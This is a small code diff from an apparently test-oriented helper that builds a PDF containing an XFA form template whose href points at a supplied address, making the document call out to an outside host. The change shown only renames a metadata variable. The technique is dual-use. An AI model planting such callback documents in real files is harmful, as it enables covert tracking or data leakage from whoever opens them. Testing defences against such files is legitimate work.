@@ -138,8 +138,8 @@ def pdf_that_reaches_out(address, secret):
         pdf.Root.AcroForm = Dictionary(
             Fields=Array(), XFA=pdf.make_stream(f'<template href="{address}/xfa"/>'.encode())
         )
-        with pdf.open_metadata() as told:
-            told["dc:creator"] = [AUTHOR]
+        with pdf.open_metadata() as metadata:
+            metadata["dc:creator"] = [AUTHOR]
         pdf.attachments["notes.txt"] = NOTES.encode()
         out = io.BytesIO()
         pdf.save(out)
